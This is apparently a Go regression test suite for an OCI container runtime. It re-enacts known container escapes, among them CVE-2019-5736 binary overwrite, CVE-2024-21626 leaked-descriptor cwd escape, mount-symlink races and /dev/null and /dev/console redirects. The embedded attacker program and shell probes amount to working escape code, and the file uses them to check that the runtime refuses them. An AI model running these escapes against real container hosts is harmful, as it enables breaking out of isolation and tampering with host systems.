package oci_test

import (
	"bytes"
	"crypto/sha256"
	"debug/elf"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// The tests of this file perform the known escapes from container runtimes
// through the runtime's command line, with what an image (and, where said,
// a config) can do, and check the host afterwards. Where an attack needs
// code of its own in the container, it is the program attackerSource,
// built static for the test.

// attackerSource is the attacker's program. Run as the ELF interpreter of
// the runtime's binary (the image's ld.so), it grabs /proc/self/exe; run as
// "grab PATH" it grabs PATH; a grabbed handle goes to a "hold" child that
// waits until no one runs the binary any more and tries to write it.
// Results land in /out. "modules" tries the module system calls.
const attackerSource = `package main

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"
	"time"
	"unsafe"
)

var self = "/bin/attacker" // set with -X

const oPath = 0x200000

func note(name, text string) {
	tmp := "/out/." + name
	if os.WriteFile(tmp, []byte(text+"\n"), 0o644) == nil {
		os.Rename(tmp, "/out/"+name)
	}
}

func main() {
	if len(os.Args) > 2 && os.Args[1] == "grab" {
		grab(os.Args[2])
	} else if len(os.Args) > 1 && os.Args[1] == "hold" {
		hold()
	} else if len(os.Args) > 1 && os.Args[1] == "modules" {
		modules()
	} else {
		grab("/proc/self/exe") // running inside the runtime's binary
	}
}

func grab(path string) {
	target, _ := os.Readlink(path)
	fd, err := syscall.Open(path, oPath, 0)
	if err != nil {
		note("grabbed", "denied "+target+": "+err.Error())
		note("result", "denied open "+path+": "+err.Error())
		os.Exit(0)
	}
	note("grabbed", "ok "+target)
	cmd := exec.Command(self, "hold")
	cmd.ExtraFiles = []*os.File{os.NewFile(uintptr(fd), "exe")}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil {
		note("result", "holder: "+err.Error())
	}
	os.Exit(0)
}

func hold() {
	deadline := time.Now().Add(15 * time.Second)
	for {
		fd, err := syscall.Open("/proc/self/fd/3", syscall.O_WRONLY, 0)
		if err == syscall.ETXTBSY && time.Now().Before(deadline) {
			time.Sleep(20 * time.Millisecond)
			continue
		}
		if err != nil {
			note("result", "denied open: "+err.Error())
			return
		}
		if _, err := syscall.Pwrite(fd, []byte("PWNED"), 0); err != nil {
			note("result", "denied write: "+err.Error())
			return
		}
		note("result", "wrote")
		return
	}
}

func modules() {
	empty := []byte{0}
	name := []byte("corral_no_such_module\x00")
	_, _, e1 := syscall.Syscall(syscall.SYS_INIT_MODULE, 0, 0, uintptr(unsafe.Pointer(&empty[0])))
	fd, _ := syscall.Open("/bin/busybox", syscall.O_RDONLY, 0)
	_, _, e2 := syscall.Syscall(313 /* finit_module, amd64 */, uintptr(fd), uintptr(unsafe.Pointer(&empty[0])), 0)
	_, _, e3 := syscall.Syscall(syscall.SYS_DELETE_MODULE, uintptr(unsafe.Pointer(&name[0])), syscall.O_NONBLOCK, 0)
	fmt.Printf("init_module=%d finit_module=%d delete_module=%d\n", e1, e2, e3)
}
`

// buildAttacker builds attackerSource as a static program that believes it
// lives at self. It is linked at 0x20000000, clear of a non-PIE runtime
// binary at 0x400000, so that the kernel can load it as that binary's ELF
// interpreter.
func buildAttacker(t *testing.T, self string) string {
	t.Helper()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "main.go"), attackerSource)
	writeFile(t, filepath.Join(dir, "go.mod"), "module attacker\n\ngo 1.21\n")
	out := filepath.Join(dir, "attacker")
	cmd := exec.Command("go", "build", "-trimpath", "-o", out,
		"-ldflags", "-T 0x20000000 -X main.self="+self, ".")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOWORK=off", "GOFLAGS=", "GOTOOLCHAIN=local")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build the attacker: %v\n%s", err, b)
	}
	return out
}

// installAttacker copies the attacker into the rootfs at self.
func installAttacker(t *testing.T, c *ctr, self string) {
	t.Helper()
	bin := buildAttacker(t, self)
	dst := filepath.Join(c.rootfs(), self)
	must(t, os.MkdirAll(filepath.Dir(dst), 0o755))
	must(t, os.WriteFile(dst, []byte(readFile(t, bin)), 0o755))
}

// privateRuntime makes the test use a copy of the runtime's binary of its
// own, so that a successful attack damages only the copy (and no other
// test runs the copy, which would keep it busy).
func privateRuntime(t *testing.T, r *rt) string {
	t.Helper()
	src, err := filepath.EvalSymlinks(r.bin)
	must(t, err)
	dst := filepath.Join(t.TempDir(), filepath.Base(r.bin))
	must(t, os.WriteFile(dst, []byte(readFile(t, src)), 0o755))
	orig := r.bin
	r.bin = dst
	// Runs before r's own cleanup: delete with the binary that is intact.
	t.Cleanup(func() { r.bin = orig })
	return dst
}

func fileHash(t *testing.T, p string) string {
	t.Helper()
	f, err := os.Open(p)
	must(t, err)
	defer f.Close()
	h := sha256.New()
	_, err = io.Copy(h, f)
	must(t, err)
	return fmt.Sprintf("%x", h.Sum(nil))
}

// awaitFile waits up to d for the file and returns its trimmed content.
func awaitFile(t *testing.T, p string, d time.Duration) (string, bool) {
	t.Helper()
	for deadline := time.Now().Add(d); ; time.Sleep(20 * time.Millisecond) {
		if b, err := os.ReadFile(p); err == nil {
			return strings.TrimSpace(string(b)), true
		}
		if time.Now().After(deadline) {
			return "", false
		}
	}
}

// checkBinaryIntact reports the attack's outcome: the holder's result must
// be a refusal that is not just "busy", and the binary unchanged.
func checkBinaryIntact(t *testing.T, out, bin, before string) {
	t.Helper()
	res, ok := awaitFile(t, filepath.Join(out, "result"), 20*time.Second)
	t.Logf("attack: grabbed %q, result %q", readOr(filepath.Join(out, "grabbed")), res)
	if after := fileHash(t, bin); after != before {
		t.Fatalf("the runtime binary was overwritten from the container (result %q)", res)
	}
	switch {
	case !ok:
		t.Errorf("the attack left no result")
	case !strings.HasPrefix(res, "denied"):
		t.Errorf("attack result %q", res)
	case strings.Contains(res, "busy"):
		t.Errorf("inconclusive: the binary was still running when the attack gave up: %q", res)
	}
}

func readOr(p string) string {
	b, _ := os.ReadFile(p)
	return strings.TrimSpace(string(b))
}

// elfInterp returns the ELF interpreter the binary asks for, "" if static.
func elfInterp(t *testing.T, bin string) string {
	t.Helper()
	f, err := elf.Open(bin)
	must(t, err)
	defer f.Close()
	for _, p := range f.Progs {
		if p.Type == elf.PT_INTERP {
			b, err := io.ReadAll(p.Open())
			must(t, err)
			return string(bytes.TrimRight(b, "\x00"))
		}
	}
	return ""
}

// TestCVE2019_5736ExecSelfExe is the classic attack: the image's program is
// "#!/proc/self/exe", so `exec` makes init execute the runtime's binary
// again inside the container, where the image's ld.so (the attacker) runs
// in it, takes /proc/self/exe and, once the runtime is gone, writes it.
func TestCVE2019_5736ExecSelfExe(t *testing.T) {
	t.Parallel()
	r := newRT(t)
	bin := privateRuntime(t, r)
	interp := elfInterp(t, bin)
	if interp == "" {
		t.Skip("the runtime binary is static: there is no ELF interpreter for the image to supply")
	}
	c := newCtr(t, r)
	out := c.hostDir("/out")
	installAttacker(t, c, interp)
	writeFile(t, filepath.Join(c.rootfs(), "bin/victim"), "#!/proc/self/exe\n")
	must(t, os.Chmod(filepath.Join(c.rootfs(), "bin/victim"), 0o755))
	c.args("sleep", "60")
	c.start()
	before := fileHash(t, bin)
	res := r.run("exec", c.id, "/bin/victim")
	if _, ok := awaitFile(t, filepath.Join(out, "grabbed"), 10*time.Second); !ok {
		t.Fatalf("the image's ld.so never ran inside the runtime binary: %v", res)
	}
	checkBinaryIntact(t, out, bin, before)
}

// TestCVE2019_5736CreatedInitExe attacks a created container's init, which
// runs the runtime's binary until start: a process exec'd into the
// container (with CAP_SYS_PTRACE, so that init's /proc entries open for it)
// takes /proc/1/exe, and writes it once init has exec'd the process.
func TestCVE2019_5736CreatedInitExe(t *testing.T) {
	t.Parallel()
	r := newRT(t)
	bin := privateRuntime(t, r)
	c := newCtr(t, r)
	out := c.hostDir("/out")
	installAttacker(t, c, "/bin/attacker")
	c.args("sleep", "60")
	c.mustCreate()
	before := fileHash(t, bin)
	r.must("exec", "-d", "--cap", "CAP_SYS_PTRACE", c.id, "/bin/attacker", "grab", "/proc/1/exe")
	if _, ok := awaitFile(t, filepath.Join(out, "grabbed"), 10*time.Second); !ok {
		t.Fatal("the attacker did not run")
	}
	r.must("start", c.id)
	checkBinaryIntact(t, out, bin, before)
}

// hostDirFiles opens a host directory n times, for the runtime to inherit
// as descriptors 3..3+n-1.
func hostDirFiles(t *testing.T, n int) (files []*os.File) {
	t.Helper()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "host-marker"), "host\n")
	for i := 0; i < n; i++ {
		f, err := os.Open(dir)
		must(t, err)
		t.Cleanup(func() { f.Close() })
		files = append(files, f)
	}
	return files
}

// TestCVE2024_21626LeakedFDs gives the runtime eight descriptors of a host
// directory: only the --preserve-fds ones may reach the container's
// process, with run and with exec.
func TestCVE2024_21626LeakedFDs(t *testing.T) {
	t.Parallel()
	r := newRT(t)
	files := hostDirFiles(t, 8)
	withFiles := func(cmd *exec.Cmd) { cmd.ExtraFiles = files }
	check := func(what string, res result, preserve int) {
		t.Helper()
		var fds fdList
		if err := json.Unmarshal([]byte(res.stdout), &fds); err != nil {
			t.Fatalf("%s: testprog fds: %v: %v", what, err, res)
		}
		for _, f := range fds {
			if f.FD > 2+preserve {
				t.Errorf("%s --preserve-fds %d: the process has fd %d -> %s", what, preserve, f.FD, f.Target)
			}
		}
	}
	for _, preserve := range []int{0, 2} {
		p := fmt.Sprint(preserve)
		c := newCtr(t, r).args("/bin/testprog", "fds")
		check("run", c.runC(withFiles, "--preserve-fds", p), preserve)
	}
	c := newCtr(t, r).args("sleep", "60")
	c.start()
	for _, preserve := range []int{0, 2} {
		res := r.exec(withFiles, "exec", "--preserve-fds", fmt.Sprint(preserve), c.id, "/bin/testprog", "fds")
		check("exec", res, preserve)
	}
}

// cwdCheck walks up from the working directory: inside the container it
// ends at the container's root.
const cwdCheck = `i=0
while [ "$(stat -c %d:%i .)" != "$(stat -c %d:%i ..)" ] && [ $i -lt 64 ]; do cd -P .. || break; i=$((i+1)); done
if [ "$(stat -c %d:%i .)" = "$(stat -c %d:%i /)" ]; then echo inside; else echo "OUTSIDE: $(ls -a | tr '\n' ' ')"; fi`

// TestCVE2024_21626CwdFD sets process.cwd (and exec --cwd) to
// /proc/self/fd/N for every N a runtime may hold open, while the runtime
// also holds descriptors of a host directory: the process must never start
// outside the container's root.
func TestCVE2024_21626CwdFD(t *testing.T) {
	t.Parallel()
	r := newRT(t)
	files := hostDirFiles(t, 8)
	withFiles := func(cmd *exec.Cmd) { cmd.ExtraFiles = files }
	check := func(what string, res result) {
		t.Helper()
		if res.code == 0 && strings.TrimSpace(res.stdout) != "inside" || strings.Contains(res.stdout, "OUTSIDE") {
			t.Errorf("%s: the process ran outside the container's root: %v", what, res)
		}
	}
	for n := 3; n <= 20; n++ {
		c := newCtr(t, r)
		c.spec.Process.Cwd = fmt.Sprintf("/proc/self/fd/%d", n)
		c.args("sh", "-c", cwdCheck)
		check("run cwd "+c.spec.Process.Cwd, c.runC(withFiles))
	}
	c := newCtr(t, r).args("sleep", "60")
	c.start()
	for n := 3; n <= 20; n++ {
		cwd := fmt.Sprintf("/proc/self/fd/%d", n)
		check("exec --cwd "+cwd, r.exec(withFiles, "exec", "--cwd", cwd, c.id, "sh", "-c", cwdCheck))
	}
}

// TestCVE2021_30465MountRace swaps a directory holding mount destinations
// with a symlink to a host directory, again and again while `create`
// mounts 50 tmpfs there. A createRuntime hook (after every mount, before
// pivot_root) records init's mount table: each of those tmpfs must lie
// inside the rootfs, and the host directory must stay untouched.
func TestCVE2021_30465MountRace(t *testing.T) {
	skipIfRunc(t, "runc 1.1.5 creates missing mountpoints through the swapped symlink: a directory m<N> "+
		"appeared in the host directory (its mounts themselves stayed inside)")
	t.Parallel()
	r := newRT(t)
	victim := t.TempDir()
	writeFile(t, filepath.Join(victim, "host-marker"), "host\n")
	created := 0
	for round := 0; round < 12 && created < 2; round++ {
		c := newCtr(t, r).args("true")
		rootfs, err := filepath.EvalSymlinks(c.rootfs())
		must(t, err)
		race, link := filepath.Join(rootfs, "race"), filepath.Join(rootfs, "racelink")
		must(t, os.Mkdir(race, 0o755))
		must(t, os.Symlink(victim, link))
		token := fmt.Sprintf("race%d-%s", round, c.id[len(c.id)-8:])
		for i := 0; i < 50; i++ {
			must(t, os.MkdirAll(filepath.Join(race, fmt.Sprint("m", i)), 0o755))
			c.spec.Mounts = append(c.spec.Mounts, specs.Mount{Destination: fmt.Sprint("/race/m", i),
				Type: "tmpfs", Source: token, Options: []string{"size=4k"}})
		}
		mountinfo := filepath.Join(t.TempDir(), "mountinfo")
		c.spec.Hooks = &specs.Hooks{CreateRuntime: []specs.Hook{{Path: "/bin/sh", Args: []string{"sh", "-c",
			`pid=$(sed -n 's/.*"pid": *\([0-9]*\).*/\1/p'); cat /proc/$pid/mountinfo > ` + mountinfo}}}}
		c.write()
		stop := raceRename(race, link)
		res := c.create()
		swaps := stop()
		t.Logf("round %d: %d swaps, create: exit %d %s", round, swaps, res.code, strings.TrimSpace(res.stderr))
		if res.code == 0 {
			created++
			checkMountsInside(t, readFile(t, mountinfo), token, rootfs)
		}
		r.run("delete", "--force", c.id)
	}
	if created == 0 {
		// Refusing is the safe outcome, but then nothing was checked.
		t.Logf("no create succeeded while racing: only refusals seen")
	}
	if entries, err := os.ReadDir(victim); err != nil || len(entries) != 1 {
		t.Errorf("the host directory changed: %v %v", entries, err)
	}
}

// raceRename exchanges a and b until the returned stop is called; stop
// returns how many exchanges were made.
func raceRename(a, b string) (stop func() int) {
	quit, done := make(chan struct{}), make(chan int)
	go func() {
		n := 0
		for {
			select {
			case <-quit:
				done <- n
				return
			default:
			}
			if unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE) == nil {
				n++
			}
			// Gaps between swaps let some creates through, to be checked.
			time.Sleep(time.Duration(n%4) * 100 * time.Microsecond)
		}
	}()
	return func() int { close(quit); return <-done }
}

// checkMountsInside fails for a mount of source token outside rootfs.
func checkMountsInside(t *testing.T, mountinfo, token, rootfs string) {
	t.Helper()
	n := 0
	for _, line := range strings.Split(mountinfo, "\n") {
		pre, post, ok := strings.Cut(line, " - ")
		f, g := strings.Fields(pre), strings.Fields(post)
		if !ok || len(f) < 5 || len(g) < 2 || g[1] != token {
			continue
		}
		n++
		if !strings.HasPrefix(f[4], rootfs+"/") {
			t.Errorf("a tmpfs of the container was mounted outside its rootfs, on %s", f[4])
		}
	}
	if n != 50 {
		t.Errorf("found %d of the 50 tmpfs in init's mount table", n)
	}
}

// TestMountRedirectRefused tries, through symlinks of the image or directly
// in config.json, to mount over /proc or inside it, where the runtime then
// writes (apparmor attr, oom_score_adj, sysctls: CVE-2019-16884,
// CVE-2023-27561, CVE-2025-52881). Every one must be refused.
func TestMountRedirectRefused(t *testing.T) {
	t.Parallel()
	r := newRT(t)
	fake := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(fake, "self/attr"), 0o755))
	writeFile(t, filepath.Join(fake, "self/oom_score_adj"), "0\n")
	adj := 100
	for _, tc := range []struct {
		name, link, target string
		mount              specs.Mount
		sysctl             bool
	}{
		{"bind over /proc through a symlink", "/data", "/proc",
			specs.Mount{Destination: "/data", Type: "bind", Source: fake, Options: []string{"rbind"}}, false},
		{"tmpfs over /proc/sys/net through a symlink", "/netsys", "/proc/sys/net",
			specs.Mount{Destination: "/netsys", Type: "tmpfs", Source: "tmpfs"}, true},
		{"tmpfs over /proc/sys/net", "", "",
			specs.Mount{Destination: "/proc/sys/net", Type: "tmpfs", Source: "tmpfs"}, true},
		{"file over /proc/self/oom_score_adj", "", "",
			specs.Mount{Destination: "/proc/self/oom_score_adj", Type: "bind", Source: filepath.Join(fake, "self/oom_score_adj")}, false},
	} {
		c := newCtr(t, r).args("true")
		if tc.link != "" {
			must(t, os.Symlink(tc.target, filepath.Join(c.rootfs(), tc.link)))
		}
		c.spec.Mounts = append(c.spec.Mounts, tc.mount)
		c.spec.Process.OOMScoreAdj = &adj
		if tc.sysctl {
			c.spec.Linux.Sysctl = map[string]string{"net.ipv4.ip_forward": "1"}
		}
		c.write()
		if res := c.create(); res.code == 0 {
			t.Errorf("%s: create succeeded", tc.name)
		}
		c.assertGone()
	}
	if got := readFile(t, filepath.Join(fake, "self/oom_score_adj")); got != "0\n" {
		t.Errorf("the fake oom_score_adj was written: %q", got)
	}
}

// hostSysctl is the host file the image's symlinks aim at; the test fails
// (and restores it) if it changed.
func hostSysctl(t *testing.T) string {
	const p = "/proc/sys/kernel/core_pattern"
	before := readFile(t, p)
	t.Cleanup(func() {
		if now := readFile(t, p); now != before {
			t.Errorf("the host's %s changed to %q: restoring %q", p, now, before)
			must(t, os.WriteFile(p, []byte(before), 0))
		}
	})
	return p
}

// noDevTmpfs drops the /dev tmpfs, so the image's own /dev is used.
func noDevTmpfs(c *ctr) {
	var ms []specs.Mount
	for _, m := range c.spec.Mounts {
		if m.Destination != "/dev" {
			ms = append(ms, m)
		}
	}
	c.spec.Mounts = ms
}

// TestCVE2025_31133MaskedPathsDevNull: the masks bind /dev/null. An image
// whose /dev/null is a symlink to a sysctl must still get the null device
// on its masked paths; a /dev bound from the host whose null is not the
// null device must make the runtime refuse the container.
func TestCVE2025_31133MaskedPathsDevNull(t *testing.T) {
	skipIfRunc(t, "runc 1.1.5 is vulnerable (CVE-2025-31133): with /dev/null a symlink to a canary file in the image "+
		"the container's output was lost, and a /dev/null that is a regular file was accepted for the masks")
	t.Parallel()
	r := newRT(t)
	target := hostSysctl(t)
	c := newCtr(t, r)
	noDevTmpfs(c)
	must(t, os.Symlink(target, filepath.Join(c.rootfs(), "dev/null")))
	c.spec.Linux.MaskedPaths = []string{"/proc/timer_list", "/proc/acpi"}
	out := c.args("sh", "-c", "stat -c '%F %t:%T' /proc/timer_list /dev/null").output()
	want := "character special file 1:3\ncharacter special file 1:3\n"
	if out != want {
		t.Errorf("masked file and /dev/null: got %q, want %q", out, want)
	}
	for _, null := range []string{"symlink", "file"} {
		dev := t.TempDir()
		if null == "symlink" {
			must(t, os.Symlink(target, filepath.Join(dev, "null")))
		} else {
			writeFile(t, filepath.Join(dev, "null"), "")
		}
		c := newCtr(t, r).args("true")
		noDevTmpfs(c)
		c.spec.Mounts = append(c.spec.Mounts, specs.Mount{Destination: "/dev", Type: "bind", Source: dev, Options: []string{"rbind"}})
		c.spec.Linux.MaskedPaths = []string{"/proc/timer_list"}
		c.write()
		if res := c.create(); res.code == 0 || !strings.Contains(res.stderr, "null") {
			t.Errorf("/dev/null a %s: create did not refuse the mask: %v", null, res)
		}
		c.assertGone()
	}
}

// TestCVE2025_52565ConsoleSymlink: with a terminal, the runtime binds the
// pty on /dev/console. An image whose /dev/console is a symlink to a
// sysctl must get a pty there, and the sysctl must stay as it was.
func TestCVE2025_52565ConsoleSymlink(t *testing.T) {
	skipIfRunc(t, "runc 1.1.5 is vulnerable (CVE-2025-52565): with /dev/console a symlink to a canary file in the image, "+
		"it truncated the canary and bound the pty over it")
	t.Parallel()
	r := newRT(t)
	target := hostSysctl(t)
	c := newCtr(t, r)
	noDevTmpfs(c)
	must(t, os.Symlink(target, filepath.Join(c.rootfs(), "dev/console")))
	c.spec.Process.Terminal = true
	c.spec.Root.Readonly = false // the image's /dev is used
	c.args("sh", "-c", "stat -c 'console %F %t' /dev/console; stat -L -c 'target %F' "+target)
	srv := newConsoleServer(t)
	c.mustCreate("--console-socket", srv.path)
	r.must("start", c.id)
	out := strings.ReplaceAll(srv.output(t), "\r", "")
	contains(t, "/dev/console", out, "console character special file 88\n")
	if strings.Contains(out, "target character") {
		t.Errorf("the pty was bound over %s: %q", target, out)
	}
}

// TestDefaultSpecKernelAccess runs the runtime's own default spec (`spec`):
// no way to raw devices, the kernel log, kernel modules, or writes to
// /proc/sys and /sys. Writes use the value already there, so that a
// failure of the defence changes nothing.
func TestDefaultSpecKernelAccess(t *testing.T) {
	t.Parallel()
	r := newRT(t)
	c := newCtr(t, r)
	r.must("spec", "--bundle", c.bundle)
	var spec specs.Spec
	must(t, json.Unmarshal([]byte(readFile(t, filepath.Join(c.bundle, "config.json"))), &spec))
	spec.Process.Terminal = false
	c.spec = &spec
	installAttacker(t, c, "/bin/attacker")
	out := c.args("sh", "-c", kernelAccessScript(hostDisk(t))).output()
	t.Logf("container:\n%s", out)
	for _, bad := range []string{"present:", "opened:", "wrote:", "mkdir:"} {
		if strings.Contains(out, bad) {
			t.Errorf("the container reached the kernel (%q)", bad)
		}
	}
	// EPERM (no CAP_SYS_MODULE) or ENOSYS (a seccomp filter, or a kernel
	// without modules, as here: then the capability sets are what counts),
	// never an error that means the call got to look at its arguments.
	var e [3]int
	_, rest, _ := strings.Cut(out, "init_module=")
	if _, err := fmt.Sscanf(rest, "%d finit_module=%d delete_module=%d", &e[0], &e[1], &e[2]); err != nil {
		t.Fatalf("module system calls: %v", err)
	}
	for i, errno := range e {
		if errno != int(unix.EPERM) && errno != int(unix.ENOSYS) {
			t.Errorf("module system call %d: errno %d, want EPERM or ENOSYS", i, errno)
		}
	}
	contains(t, "mount flags", out, "procsys=ro\n")
	contains(t, "mount flags", out, "sys=ro\n")
	checkCapsWithout(t, out, 16, 17, 27) // CAP_SYS_MODULE, CAP_SYS_RAWIO, CAP_MKNOD
}

// hostDisk returns "major minor" of the host's first block device.
func hostDisk(t *testing.T) string {
	t.Helper()
	for _, line := range strings.Split(readFile(t, "/proc/partitions"), "\n")[1:] {
		if f := strings.Fields(line); len(f) == 4 {
			return f[0] + " " + f[1]
		}
	}
	t.Fatal("no block device in /proc/partitions")
	return ""
}

// kernelAccessScript probes the kernel from inside; hostDev is the "major
// minor" of a block device of the host.
func kernelAccessScript(hostDev string) string {
	return `for d in mem kmem port kmsg sda vda nvme0n1 loop0 fuse; do [ -e /dev/$d ] && echo present:$d; done
for n in "mem c 1 1" "kmsg c 1 11" "port c 1 4" "disk b ` + hostDev + `"; do
	set -- $n
	if mknod /dev/probe-$1 $2 $3 $4 2>/dev/null; then head -c1 /dev/probe-$1 >/dev/null 2>&1 && echo opened:$1; fi
done
/bin/attacker modules
for f in /proc/sys/kernel/core_pattern /proc/sys/vm/overcommit_memory /sys/module/printk/parameters/time; do
	[ -e $f ] && v=$(cat $f) && (echo "$v" > $f) 2>/dev/null && echo wrote:$f
done
mkdir /sys/fs/cgroup/probe 2>/dev/null && echo mkdir:cgroup
awk '$2 == "/proc/sys" { split($4, o, ","); print "procsys=" o[1] } $2 == "/sys" { split($4, o, ","); print "sys=" o[1] }' /proc/self/mounts
grep ^Cap /proc/self/status`
}

// checkCapsWithout fails if a capability set of out (the Cap* lines of
// /proc/self/status) has any of the bits: not even the bounding set may
// hold them, or a file capability could bring them back.
func checkCapsWithout(t *testing.T, out string, bits ...uint) {
	t.Helper()
	seen := 0
	for _, line := range strings.Split(out, "\n") {
		name, hex, ok := strings.Cut(line, ":")
		var set uint64
		if !ok || !strings.HasPrefix(name, "Cap") {
			continue
		}
		if _, err := fmt.Sscanf(strings.TrimSpace(hex), "%x", &set); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		seen++
		for _, b := range bits {
			if set&(1<<b) != 0 {
				t.Errorf("%s has capability %d (%#x)", name, b, set)
			}
		}
	}
	if seen < 4 {
		t.Errorf("capability sets missing from %q", out)
	}
}
